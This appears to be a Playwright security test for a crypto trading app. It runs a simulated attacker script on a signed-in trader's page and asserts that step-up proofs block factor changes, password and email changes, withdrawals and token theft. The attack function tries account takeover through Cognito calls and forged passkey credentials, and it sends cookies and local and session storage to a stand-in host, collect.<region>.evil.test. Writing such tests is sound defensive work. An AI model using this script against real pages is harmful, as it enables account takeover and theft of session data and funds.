// Script of an attacker runs on a page of a trader who is signed in: it can do what the page can. It adds no factor, changes none, reads no token and
// moves nothing, because each of these needs a proof that the page does not hold.
import { expect, test as base } from "@playwright/test";
import { openHarness } from "../support/harness";
import { callPool } from "../support/cognito-calls";
import { COOKIE } from "../support/cookie-names";
import { signInAtScreen } from "../support/person-at-screen";
import { stageTrader, type StagedTrader } from "../support/staged-trader";
import { accepted } from "../support/withdrawal-calls";

const test = base.extend({ baseURL: async ({}, use) => use(openHarness().facts.origin) });

interface Tried {
  readonly what: string;
  readonly status: number;
  readonly text: string;
}

/** What the script tries, in the page. Everything it needs comes in as one value, because it runs in another world than the suite. */
async function attack({ addressId, region }: { addressId: string; region: string }): Promise<Tried[]> {
  const tried: { what: string; status: number; text: string }[] = [];
  const send = async (what: string, method: string, path: string, body: unknown, headers: Record<string, string> = {}) => {
    const response = await fetch(path, {
      method,
      headers: { "content-type": "application/json", ...headers },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    const text = await response.text();
    tried.push({ what, status: response.status, text });
    return text;
  };
  const { shells } = JSON.parse(await send("the session's shells", "GET", "/api/auth/session", undefined)) as {
    shells: { accessToken: string; refreshToken?: string };
  };
  const ask = (operation: string, fields: object) =>
    send(operation, "POST", "/api/auth/cognito", fields, {
      "content-type": "application/x-amz-json-1.1",
      "x-amz-target": `AWSCognitoIdentityProviderService.${operation}`,
    });
  const AccessToken = shells.accessToken;
  await ask("StartWebAuthnRegistration", { AccessToken });
  await ask("CompleteWebAuthnRegistration", { AccessToken, Credential: { id: "x", rawId: "x", type: "public-key", response: {} } });
  await ask("AssociateSoftwareToken", { AccessToken });
  await ask("VerifySoftwareToken", { AccessToken, UserCode: "123456" });
  await ask("SetUserMFAPreference", { AccessToken, SoftwareTokenMfaSettings: { Enabled: false } });
  await ask("SetUserMFAPreference", { AccessToken, WebAuthnMfaSettings: { Enabled: true } });
  await ask("DeleteWebAuthnCredential", { AccessToken, CredentialId: "x" });
  await ask("ChangePassword", { AccessToken, PreviousPassword: "unknown to me", ProposedPassword: "the attacker's own phrase 1" });
  await ask("UpdateUserAttributes", { AccessToken, UserAttributes: [{ Name: "email", Value: "attacker@evil.test" }] });
  await ask("DeleteUser", { AccessToken });
  const withdrawal = JSON.parse(
    await send(
      "a withdrawal",
      "POST",
      "/api/withdrawals",
      { network: "ethereum-local", asset: "USDC", amount: "5", addressId },
      { "idempotency-key": "live-script" },
    ),
  ) as { id?: string };
  const address = JSON.parse(
    await send("an address", "POST", "/api/addresses", {
      network: "ethereum-local",
      address: "0x000000000000000000000000000000000000dEaD",
      label: "Mine now",
    }),
  ) as { id?: string };
  for (const [purpose, subjectId] of [
    ["withdrawal", withdrawal.id],
    ["address", address.id],
    ["passkey_add", "self"],
    ["totp_change", "self"],
  ] as const) {
    const grant = JSON.parse(await send(`a grant for ${purpose}`, "POST", "/api/step-up", { purpose, subjectId })) as { grantId?: string };
    const grantId = grant.grantId ?? "none";
    const credential = { id: "AAAA", rawId: "AAAA", type: "public-key", clientExtensionResults: {}, response: {} };
    await send(`a made-up proof for ${purpose}`, "POST", `/api/step-up/${grantId}/passkey`, { credential });
    if (purpose === "withdrawal") await send("confirm withdrawal", "POST", `/api/withdrawals/${withdrawal.id ?? "x"}/confirm`, { grantId });
    if (purpose === "address") await send("confirm address", "POST", `/api/addresses/${address.id ?? "x"}/confirm`, { grantId });
    if (purpose === "passkey_add") await ask("StartWebAuthnRegistration", { AccessToken });
    if (purpose === "totp_change") await ask("AssociateSoftwareToken", { AccessToken });
  }
  const readable = [document.cookie, JSON.stringify(Object.entries(localStorage)), JSON.stringify(Object.entries(sessionStorage))].join(
    "\n",
  );
  tried.push({ what: "what script can read", status: 0, text: readable });
  const away = await fetch(`https://collect.${region}.evil.test/`, { method: "POST", body: readable }).then(
    () => "sent",
    () => "blocked",
  );
  tried.push({ what: "sending it away", status: 0, text: away });
  return tried;
}

/** What a thief would have to change. */
async function standingOf(trader: StagedTrader): Promise<unknown> {
  const { facts } = openHarness();
  const AccessToken = trader.client.jar.get(COOKIE.access) ?? "";
  const [user, keys] = [
    await callPool(facts.poolUrl, "GetUser", { AccessToken }),
    await callPool(facts.poolUrl, "ListWebAuthnCredentials", { AccessToken }),
  ];
  const portfolio = JSON.parse((await trader.client.call("GET", "/api/portfolio")).text) as {
    positions: { asset: string; amount: string; held: string }[];
  };
  const money = portfolio.positions.map(({ asset, amount, held }) => [asset, amount, held]);
  const { addresses } = accepted<{ addresses: { id: string; state: string }[] }>(await trader.client.call("GET", "/api/addresses"));
  const usable = addresses.filter(({ state }) => state !== "pending" && state !== "awaiting_approval").map(({ id }) => id);
  return { user: user.fields, keys: keys.fields, money, usable };
}

const MAY_SUCCEED = [/^the session's shells$/, /^a withdrawal$/, /^an address$/, /^a grant for /];

test("live script on a signed-in page adds no factor, changes none, reads no token and moves nothing", async ({ page }) => {
  const harness = openHarness();
  const trader = await stageTrader(harness, { deposits: [{ asset: "USDC", amount: "100" }], hasPasskey: true });
  const before = await standingOf(trader);
  await signInAtScreen(page, harness, trader.person);
  const tried = await page.evaluate(attack, { addressId: trader.addressId, region: "eu-central-1" });

  const succeeded = tried.filter(({ status }) => status >= 200 && status < 300).map(({ what }) => what);
  expect(succeeded.filter((what) => !MAY_SUCCEED.some((form) => form.test(what)))).toEqual([]);
  expect(
    tried
      .filter(({ what }) => what === "StartWebAuthnRegistration")
      .map(({ text }) => text)
      .join(),
  ).toContain("StepUpRequired");
  // The script got as far as a page of ours does, so what stopped it is the missing proof and nothing before it.
  for (const what of ["a withdrawal", "an address", "a grant for withdrawal", "a grant for address", "a grant for passkey_add"]) {
    expect(succeeded, `what the page may do: ${what}`).toContain(what);
  }
  expect(tried.find(({ what }) => what === "confirm withdrawal")?.status, "the attempt was made, and refused").toBeGreaterThanOrEqual(400);
  expect(tried.find(({ what }) => what === "sending it away")?.text).toBe("blocked");
  const secrets = (await harness.secrets()).filter(({ value, kind }) => value.length > 40 && kind !== "totp-secret");
  const readable = tried.map(({ text }) => text).join("\n");
  expect(secrets.filter(({ value }) => readable.includes(value)).map(({ kind, operation }) => ({ kind, operation }))).toEqual([]);
  expect(await standingOf(trader)).toEqual(before);
});
